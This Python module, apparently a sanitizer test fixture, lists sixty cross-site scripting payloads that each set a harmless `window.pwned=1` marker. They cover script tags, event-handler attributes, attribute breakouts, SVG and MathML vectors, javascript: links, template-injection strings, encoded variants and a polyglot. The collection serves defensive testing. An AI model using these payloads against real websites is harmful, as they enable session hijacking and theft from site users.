"""Sixty strings that run `window.pwned = 1` in a page that takes them for markup or script."""

RUN = "window.pwned=1"
TAGS = (
    f"<script>{RUN}</script>",
    f"<SCRIPT>{RUN}</SCRIPT >",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    "<script src=data:text/javascript,window.pwned=1></script>",
    f"<script type=module>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"</style><script>{RUN}</script>",
    f"</noscript><script>{RUN}</script>",
    f"--><script>{RUN}</script><!--",
    f"]]><script>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f"<img src=x onerror={RUN}//",
    f"<img/src=x/onerror={RUN}>",
    f'<img """><script>{RUN}</script>">',
    f"<body onload={RUN}>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<video><source onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}></audio>",
    f"<object data=javascript:{RUN}></object>",
    f"<iframe src=javascript:parent.{RUN}></iframe>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<form action=javascript:{RUN}><button>x</button></form>",
    f"<isindex type=image src=x onerror={RUN}>",
    f"<template><script>{RUN}</script></template><script>{RUN}</script>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    "<base href=javascript:window.pwned=1//>",
)
ATTRIBUTES = (
    f'"><script>{RUN}</script>',
    f"'><script>{RUN}</script>",
    f'" onfocus={RUN} autofocus tabindex=1 x="',
    f"' onfocus={RUN} autofocus tabindex=1 x='",
    f'" onmouseover="{RUN}" style="position:fixed;inset:0',
    f"` onerror={RUN} `",
    f'x" onanimationstart="{RUN}" style="animation:aa-read 1s',
    f"<input onfocus={RUN} autofocus>",
)
VECTORS = (
    f"<svg onload={RUN}>",
    f"<svg/onload={RUN}//",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s></svg>",
    f"<svg><a href=javascript:{RUN}><text>x</text></a></svg>",
    f"<math><mtext><img src=x onerror={RUN}></mtext></math>",
    f"<math><mi xlink:href=javascript:{RUN}>x</mi></math>",
)
LINKS = (
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f"java\tscript:{RUN}",
    f"<a href=javascript:{RUN}>x</a>",
    f"[x](javascript:{RUN}) и ещё слова",
    f"![x](x){{onerror={RUN}}} и ещё слова",
)
TEMPLATES = (
    "{{ constructor.constructor('window.pwned=1')() }}",
    "${window.pwned=1}",
    "{% raw %}<script>window.pwned=1</script>{% endraw %}",
    "<%= window.pwned=1 %>",
)
ENCODED = (
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&#60;img src=x onerror={RUN}&#62;",
    f"%3Cscript%3E{RUN}%3C/script%3E",
    f"＜script＞{RUN}＜/script＞",
    f"\u202e<img src=x onerror={RUN}>",
    f"<style>*{{background:url(javascript:{RUN})}}</style>",
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */onerror=window.pwned=1 )//</stYle/</titLe/"
    "</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=window.pwned=1//>",
)
PAYLOADS = (*TAGS, *ATTRIBUTES, *VECTORS, *LINKS, *TEMPLATES, *ENCODED)
